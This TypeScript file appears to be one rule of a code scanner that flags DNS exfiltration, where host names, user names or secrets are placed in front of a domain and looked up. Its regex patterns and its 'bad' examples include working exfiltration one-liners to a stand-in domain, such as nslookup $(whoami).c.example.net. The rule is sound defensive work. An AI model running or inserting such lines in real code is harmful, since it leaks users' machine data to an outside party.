import type { FileCheck } from '../../check.ts';
import { isCode } from '../../inventory/language.ts';

/** A lookup whose name is put together from something and a fixed domain. */
const LOOKUPS: readonly RegExp[] = [
  /\b(?:dns(?:\.promises)?|dnsPromises|resolver)\.(?:lookup|resolve\w{0,5})\s{0,2}\(\s{0,3}(?<name>`[^`\n]{0,120}\$\{[^`\n]{1,120}\}\.[\w.-]{4,80}`|[^,\n]{1,120}\+\s{0,2}["'`]\.[\w.-]{4,80}["'`])/g,
  /\b(?:socket\.(?:gethostbyname|getaddrinfo)|dns\.resolver\.(?:query|resolve))\s{0,2}\(\s{0,3}(?<name>f["'][^"'\n]{0,120}\{[^"'\n]{1,80}\}\.[\w.-]{4,80}["']|[^,\n]{1,120}\+\s{0,2}["']\.[\w.-]{4,80}["'])/g,
  /\b(?:nslookup|dig|host)\s{1,3}(?:\+short\s{1,3})?(?<name>["']?(?:\$\([^)\n]{1,120}\)|\$\{[^}\n]{1,120}\}|\$\w{1,60}|`[^`\n]{1,120}`)[^\s;|&]{0,80}\.[a-z][\w.-]{3,80})/g,
];
/** What is worth carrying off in a name. */
const LOOT =
  /\bhostname\b|\bwhoami\b|\buser(?:name|Info)?\b|\bgetuser\b|\bgetlogin\b|\benv(?:iron)?\b|\bsecret|\btoken\b|\bpasswo?rd|\bhex\b|\bbase(?:32|64)\b|\bhexlify\b|\bchunk|\bpayload\b|\bdata\b|\bcwd\b|\bhome(?:dir)?\b|\bencode/i;
const DISCOVERY =
  /\.(?:svc|cluster|local|internal|consul|arpa|in-addr|ip6)\b|\b_(?:tcp|udp|dmarc|domainkey|acme|mta-sts)\b/i;

export const check: FileCheck = {
  id: 'network-dns-exfiltration',
  title: 'Carries data off in host names',
  severity: 'critical',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [506],
  why: `
    A lookup reaches its domain's owner even where every other way out is closed. Putting host names, users or secrets in
    front of a domain hands them over, letter by letter, and no proxy log shows a request.`,
  fix: 'Remove it. Look up names that are known, not names made of data.',
  blindSpots: 'Names that are put together elsewhere and looked up by a variable are not seen.',
  wants: {
    keywords: [
      'dns.',
      'dnspromises',
      'resolver.',
      'gethostbyname',
      'getaddrinfo',
      'nslookup',
      'dig ',
      'host $',
      'host `',
    ],
  },
  examples: {
    bad: [
      { 'index.js': '«dns.lookup(`${os.hostname()}.c.example.net`», () => {});\n' },
      { 'setup.py': '«socket.gethostbyname(getpass.getuser() + ".c.example.net"»)\n' },
      { 'post.sh': '«nslookup $(whoami).c.example.net»\n' },
    ],
    good: [
      { 'find.js': 'dns.lookup(`${service}.default.svc.cluster.local`, done);\n' },
      { 'mail.py': 'dns.resolver.resolve("_dmarc." + domain, "TXT")\n' },
      { 'ping.sh': 'nslookup example.com\n' },
      { 'find.ts': 'throw new Error(`No region in endpoint host ${url.hostname}`);\n' },
    ],
  },

  *find({ windows, language, context }) {
    if (!isCode(language) || context === 'docs') return;
    for (const window of windows) {
      for (const form of LOOKUPS) {
        for (const match of window.text.matchAll(form)) {
          const name = match.groups?.['name'] ?? '';
          if (!LOOT.test(name) || DISCOVERY.test(name)) continue;
          yield {
            at: window.spanOf(match),
            message: 'Data of this machine is put into the host name that is looked up.',
          };
        }
      }
    }
  },
};
